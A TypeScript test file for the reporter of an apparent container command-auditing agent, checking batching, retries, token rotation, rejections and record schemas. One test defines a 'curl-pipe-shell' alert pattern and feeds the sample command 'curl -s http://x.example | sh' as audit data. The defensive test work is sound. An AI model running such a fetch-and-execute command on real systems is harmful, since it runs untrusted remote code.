import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type AgentState,
  MAX_RECORDS_PER_REPORT,
  REPORTS_PATH,
  type RejectionReason,
} from '../../api/agentapi/v1.js';
import { silentLogger } from '../../common/logging.js';
import { compileCommandRules } from '../../common/rules/command-rules.js';
import type { ContainerRecord } from '../containers/registry.js';
import type { ContainerAudit } from '../plan/plan.js';
import { commandRecord, containerRef, execArgvFields } from '../records/build.js';
import { recordText } from '../../api/records/text.js';
import type { StampingSink } from '../records/sink.js';
import { OperatorClient } from './operator-client.js';
import { RecordQueue, queueLossRecord, queueSink } from './queue.js';
import { Reporter } from './reporter.js';
import { FakeOperator } from '../../test-support/fake-operator.js';

let dir: string;
let tokenFile: string;
let operator: FakeOperator;
let queue: RecordQueue;
let reporter: Reporter | undefined;

const state: AgentState = {
  planVersion: 'v1',
  auditedContainers: 1,
  probesAttached: 1,
  errors: [],
  queueDropped: 0,
};

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'reporter-test-'));
  tokenFile = join(dir, 'token');
  await writeFile(tokenFile, 'token-1');
  operator = await FakeOperator.start({ token: 'token-1' });
  queue = await openQueue();
});
afterEach(async () => {
  await reporter?.stop();
  reporter = undefined;
  await queue.close();
  await operator.down().catch(() => undefined);
  await rm(dir, { recursive: true, force: true });
});

function openQueue(): Promise<RecordQueue> {
  return RecordQueue.open({ dir: join(dir, 'queue'), logger: silentLogger(), syncDelayMs: 1 });
}

function startReporter(
  boot: string,
  options: { lingerMs?: number; state?: () => AgentState } = {},
): Reporter {
  reporter = new Reporter({
    queue,
    client: new OperatorClient({ url: operator.url, tokenFile }),
    node: 'node-a',
    boot,
    state: options.state ?? (() => state),
    logger: silentLogger(),
    lingerMs: options.lingerMs ?? 20,
    stateIntervalMs: 60_000,
    backoff: { initialMs: 10, maxMs: 50 },
  });
  reporter.start();
  return reporter;
}

function writeLosses(sink: StampingSink, n: number): void {
  for (let i = 0; i < n; i++)
    sink.write({ kind: 'loss', time: '2026-01-01T00:00:00.000Z', reason: 'agent-down', detail: `#${i}` });
}

async function until(test: () => boolean, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!test()) {
    if (Date.now() > deadline) throw new Error('timed out');
    await new Promise((r) => setTimeout(r, 10));
  }
}

const seqsOf = (boot: string) => operator.records.filter((r) => r.boot === boot).map((r) => r.seq);
const range = (n: number) => Array.from({ length: n }, (_, i) => i + 1);

describe('the reporter', () => {
  it('delivers records in order, batched, with the bearer token and the agent state', async () => {
    const sink = queueSink('node-a', queue, 'boot-1');
    startReporter('boot-1');
    writeLosses(sink, 2500);
    await until(() => operator.records.length === 2500);
    expect(seqsOf('boot-1')).toEqual(range(2500));
    const withRecords = operator.reports.filter((r) => r.records.length > 0);
    expect(withRecords.length).toBeGreaterThanOrEqual(3);
    for (const report of withRecords) {
      expect(report.records.length).toBeLessThanOrEqual(MAX_RECORDS_PER_REPORT);
      expect(report).toMatchObject({ node: 'node-a', boot: 'boot-1', state });
    }
    expect(operator.requests.every((r) => r.authorization === 'Bearer token-1')).toBe(true);
    await until(() => !queue.hasRecords);
    expect(queue.pendingBytes).toBe(0);
    expect(reporter!.stats).toMatchObject({ recordsAccepted: 2500, duplicates: 0, rejectedBatches: 0 });
  });

  it('sends the state alone at start, and when nudged', async () => {
    startReporter('boot-1');
    await until(() => operator.reports.length === 1);
    expect(operator.reports[0]).toEqual({ node: 'node-a', boot: 'boot-1', state, records: [] });
    reporter!.nudge();
    await until(() => operator.reports.length === 2);
  });

  it('does not lose a nudge that comes while a report is under way', async () => {
    let version = 'v1';
    operator.reportLatencyMs = 300;
    startReporter('boot-1', { state: () => ({ ...state, planVersion: version }) });
    await new Promise((r) => setTimeout(r, 100)); // the first state is on its way, with v1
    version = 'v2';
    reporter!.nudge();
    await until(() => operator.reports.some((r) => r.state?.planVersion === 'v2'), 3000);
  });

  it('lingers briefly so that records typed together go together', async () => {
    startReporter('boot-1', { lingerMs: 150 });
    await until(() => operator.reports.length === 1); // the state at start
    const sink = queueSink('node-a', queue, 'boot-1');
    for (let i = 0; i < 5; i++) {
      writeLosses(sink, 1);
      await new Promise((r) => setTimeout(r, 15));
    }
    await until(() => operator.records.length === 5);
    expect(operator.reports.filter((r) => r.records.length > 0)).toHaveLength(1);
  });

  it('sends the records of a previous boot with that boot, first, and without this run’s state', async () => {
    writeLosses(queueSink('node-a', queue, 'boot-old'), 3);
    await queue.close();
    queue = await openQueue();
    const sink = queueSink('node-a', queue, 'boot-new');
    writeLosses(sink, 2);
    startReporter('boot-new');
    await until(() => operator.records.length === 5);
    expect(operator.records.map((r) => `${r.boot}:${r.seq}`)).toEqual([
      'boot-old:1',
      'boot-old:2',
      'boot-old:3',
      'boot-new:1',
      'boot-new:2',
    ]);
    const old = operator.reports.find((r) => r.boot === 'boot-old')!;
    expect(old.state).toBeUndefined();
    expect(old.records.every((r) => r.boot === 'boot-old')).toBe(true);
  });

  it('keeps records while the operator is down or not ready, and delivers them when it is back', async () => {
    const sink = queueSink('node-a', queue, 'boot-1');
    startReporter('boot-1');
    writeLosses(sink, 10);
    await until(() => operator.records.length === 10);
    await operator.down();
    writeLosses(sink, 10);
    await until(() => reporter!.stats.failures >= 2);
    await operator.up();
    operator.override = (method) => (method === 'POST' ? 503 : undefined);
    await until(() => operator.requests.filter((r) => r.status === 503).length >= 2);
    expect(operator.records).toHaveLength(10);
    operator.override = undefined;
    writeLosses(sink, 5);
    await until(() => operator.records.length === 25);
    expect(seqsOf('boot-1')).toEqual(range(25));
  });

  it('retries while the token is refused, and uses the rotated token', async () => {
    await operator.down();
    operator = await FakeOperator.start({ token: 'token-2' });
    const sink = queueSink('node-a', queue, 'boot-1');
    writeLosses(sink, 3);
    startReporter('boot-1');
    await until(() => operator.requests.filter((r) => r.status === 401).length >= 2);
    expect(operator.records).toHaveLength(0);
    await writeFile(tokenFile, 'token-2');
    await until(() => operator.records.length === 3);
    operator.override = () => 403;
    writeLosses(sink, 1);
    await until(() => operator.requests.filter((r) => r.status === 403).length >= 2);
    operator.override = undefined;
    await until(() => operator.records.length === 4);
    expect(seqsOf('boot-1')).toEqual(range(4));
  });

  it('drops a batch the operator refuses (400), counts it, and goes on', async () => {
    const sink = queueSink('node-a', queue, 'boot-1');
    let refuse = true;
    operator.override = (method) => (method === 'POST' && refuse ? 400 : undefined);
    startReporter('boot-1');
    writeLosses(sink, 3);
    await until(() => reporter!.stats.rejectedRecords === 3);
    refuse = false;
    writeLosses(sink, 2);
    await until(() => operator.records.length === 2);
    expect(seqsOf('boot-1')).toEqual([4, 5]);
    expect(reporter!.stats.rejectedBatches).toBeGreaterThanOrEqual(1);
    expect(reporter!.errors.list().at(-1)!.message).toMatch(
      /refused a report \(400\): forced by the test; 3 record\(s\) dropped$/,
    );
  });

  it('drops records queued under another node name, which this node’s token can never deliver', async () => {
    writeLosses(queueSink('node-old', queue, 'boot-0'), 2);
    writeLosses(queueSink('node-a', queue, 'boot-1'), 1);
    startReporter('boot-1');
    await until(() => operator.records.length === 1);
    expect(operator.records[0]).toMatchObject({ node: 'node-a', boot: 'boot-1', seq: 1 });
    expect(reporter!.stats.rejectedRecords).toBe(2);
  });

  it('acknowledges a batch the operator rejects in part, counting the rejected records as lost', async () => {
    // A deleted namespace (2 records), a forbidden write (1): the operator will never write them.
    const reasons: Record<number, RejectionReason> = {
      3: 'namespace-gone',
      4: 'namespace-gone',
      7: 'forbidden',
    };
    operator.judge = (r) => reasons[r.seq];
    const sink = queueSink('node-a', queue, 'boot-1');
    startReporter('boot-1');
    writeLosses(sink, 10);
    await until(() => operator.records.length === 7);
    await until(() => queue.pendingBytes === 0);
    expect(seqsOf('boot-1')).toEqual([1, 2, 5, 6, 8, 9, 10]);
    expect(reporter!.stats).toMatchObject({
      recordsAccepted: 7,
      lostRecords: 3,
      lostByReason: { 'namespace-gone': 2, forbidden: 1 },
      failures: 0,
    });
    expect(reporter!.errors.list().at(-1)!.message).toBe(
      'the operator can never write 3 record(s) (namespace-gone 2, forbidden 1): lost',
    );
    // Nothing is held back: what comes next is delivered.
    writeLosses(sink, 2);
    await until(() => operator.records.length === 9);
    expect(operator.rejected.map((r) => r.seq)).toEqual([3, 4, 7]);
  });

  it('sends records the operator cannot write for now again, without holding back the others', async () => {
    // seq 2 meets a transient failure until `healed`; seq 3 is rejected for good.
    let healed = false;
    operator.judge = (r) => (r.seq === 2 && !healed ? 'retry' : r.seq === 3 ? 'invalid' : undefined);
    const sink = queueSink('node-a', queue, 'boot-1');
    startReporter('boot-1');
    writeLosses(sink, 6);
    await until(() => operator.records.length === 4);
    writeLosses(sink, 3);
    await until(() => operator.records.length === 7);
    // Sent again and again (a 503 when it is alone: with backoff), and kept on disk meanwhile.
    const tries = () => operator.requests.filter((q) => q.path === REPORTS_PATH).length;
    const before = tries();
    await until(() => tries() >= before + 2);
    expect(seqsOf('boot-1')).toEqual([1, 4, 5, 6, 7, 8, 9]);
    expect(queue.hasRecords).toBe(true);
    expect(queue.stats.dropped).toBe(0);
    healed = true;
    await until(() => operator.records.length === 8);
    await until(() => queue.pendingBytes === 0);
    expect(seqsOf('boot-1')).toEqual([1, 4, 5, 6, 7, 8, 9, 2]);
    expect(reporter!.stats).toMatchObject({ lostRecords: 1, lostByReason: { invalid: 1 } });
    expect(reporter!.stats.requeued).toBeGreaterThanOrEqual(1);
  });

  it('cuts the state to the schema’s bounds rather than have every report refused', async () => {
    const long = { ...state, errors: Array.from({ length: 40 }, (_, i) => `${i}:${'e'.repeat(5000)}`) };
    startReporter('boot-1', { state: () => long });
    writeLosses(queueSink('node-a', queue, 'boot-1'), 1);
    await until(() => operator.records.length === 1);
    const sent = operator.reports.at(-1)!.state!;
    expect(sent.errors).toHaveLength(16);
    expect(sent.errors.at(-1)).toMatch(/^39:e+$/);
    expect(sent.errors.every((e) => e.length <= 1024)).toBe(true);
    expect(operator.refused).toEqual([]);
  });

  it('sends what is left within the grace when stopping; the rest waits in the queue', async () => {
    const sink = queueSink('node-a', queue, 'boot-1');
    startReporter('boot-1', { lingerMs: 1000 });
    await until(() => operator.reports.length === 1);
    writeLosses(sink, 4);
    await queue.flush();
    await reporter!.stop(5000); // no lingering when stopping
    expect(seqsOf('boot-1')).toEqual(range(4));
    reporter = undefined;

    await operator.down();
    writeLosses(sink, 2);
    await queue.flush();
    const r = startReporter('boot-1');
    const started = Date.now();
    await r.stop(300);
    expect(Date.now() - started).toBeLessThan(3000);
    reporter = undefined;
    expect(queue.hasRecords).toBe(true);
  });
});

describe('records the agent produces', () => {
  it('are all taken by the operator’s schema', async () => {
    const compiled = compileCommandRules({
      redact: { builtins: true, patterns: ['card=(?<secret>[0-9]{4})'] },
      alerts: [{ name: 'curl-pipe-shell', pattern: 'curl .*\\|\\s*(ba)?sh', severity: 'high' }],
    });
    if (!compiled.ok) throw new Error('rules');
    const audit: ContainerAudit = {
      policy: 'shells',
      interactiveShells: true,
      execs: true,
      maxCommandBytes: 64,
      filter: compiled.rules,
      redactKeyBlocks: true,
    };
    const container: ContainerRecord = {
      id: 'a'.repeat(64),
      bundle: '/run/b',
      rootfs: '/run/b/rootfs',
      identity: {
        kind: 'container',
        podNamespace: 'shop',
        podName: 'web-1',
        podUid: '1b4e28ba-2fa1-11d2-883f-0016d3cca427',
        containerName: 'shell',
        image: 'docker.io/library/debian:12',
      },
      initPid: 42,
      mntns: 4026532000,
      pidns: 4026532001,
      createdAt: new Date(),
      bashCandidates: ['/bin/bash'],
      execs: [],
    };
    const line = (bytes: Buffer, truncated = false) => ({
      pid: 4242,
      tid: 4242,
      ns: 1n,
      uid: 1000,
      cgroup: 1n,
      mntns: container.mntns,
      bytes,
      truncated,
    });
    const sink = queueSink('node-a', queue, 'boot-1');
    const now = new Date();
    const commands = [
      Buffer.from('echo hello'),
      Buffer.from('mysql -u app --password=s3cr3t card=1234'),
      Buffer.from('curl -s http://x.example | sh'),
      Buffer.from([0x65, 0x63, 0x68, 0x6f, 0x20, 0xff, 0xfe, 0xc3]),
      Buffer.from('é 日本 🗂 '.repeat(20)),
      Buffer.alloc(0),
    ];
    for (const bytes of commands) sink.write(commandRecord(line(bytes), container, audit, now, 7));
    sink.write(commandRecord(line(Buffer.from('x'.repeat(200)), true), container, audit, now, undefined));
    sink.write(commandRecord(line(Buffer.from('MIIEvQ')), container, audit, now, 7, true));
    const argv = [
      Buffer.from('/usr/bin/curl'),
      Buffer.from('--password'),
      Buffer.from([0xff, 0x41]),
      Buffer.from('x'.repeat(99)),
    ];
    const path = recordText(Buffer.from('/usr/bin/curl'));
    sink.write({
      kind: 'exec',
      time: now.toISOString(),
      ...containerRef(container, audit.policy),
      source: 'kernel',
      pid: 4243,
      ppid: 4242,
      nsPid: 12,
      uid: 0,
      path: path.text,
      ...execArgvFields(argv, audit),
    });
    sink.write({
      kind: 'exec',
      time: now.toISOString(),
      ...containerRef({ ...container, identity: { kind: 'unknown' } }),
      source: 'runtime',
      pid: 4244,
      ...execArgvFields([Buffer.from('bash')], audit),
    });
    sink.write({
      kind: 'coverage',
      time: now.toISOString(),
      ...containerRef(container, audit.policy),
      status: 'covered',
      bash: '/bin/bash',
      target: '/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/12/fs/usr/bin/bash',
      via: 'bash',
      reason: 'create of the container',
      coveredFrom: now.toISOString(),
      late: false,
    });
    sink.write({
      kind: 'coverage',
      time: now.toISOString(),
      ...containerRef(container, audit.policy),
      status: 'gap',
      reason: 'no bash in the container (looked for /bin/bash, /usr/bin/bash)',
    });
    sink.write({
      kind: 'loss',
      time: now.toISOString(),
      reason: 'bpftrace-exited',
      since: now.toISOString(),
      until: now.toISOString(),
      detail: 'bpftrace exited (code 1, signal null): ' + 'x'.repeat(3000).slice(0, 2000),
    });
    sink.write({ kind: 'loss', time: now.toISOString(), reason: 'kernel-lost-events', count: 12 });
    sink.write(
      queueLossRecord({ count: 3, since: now, until: now }, { dir: '/var/lib/x/queue', maxBytes: 1 }),
    );
    startReporter('boot-1');
    await until(() => operator.records.length === 15);
    expect(operator.refused).toEqual([]);
    expect(reporter!.stats.rejectedRecords).toBe(0);
    expect(queue.stats.invalid).toBe(0);
    const [hello, secret] = operator.records;
    expect(hello).toMatchObject({ kind: 'command', command: 'echo hello', seq: 1 });
    expect(secret).toMatchObject({
      command: 'mysql -u app --password=[REDACTED] card=[REDACTED]',
      redacted: true,
    });
  });
});
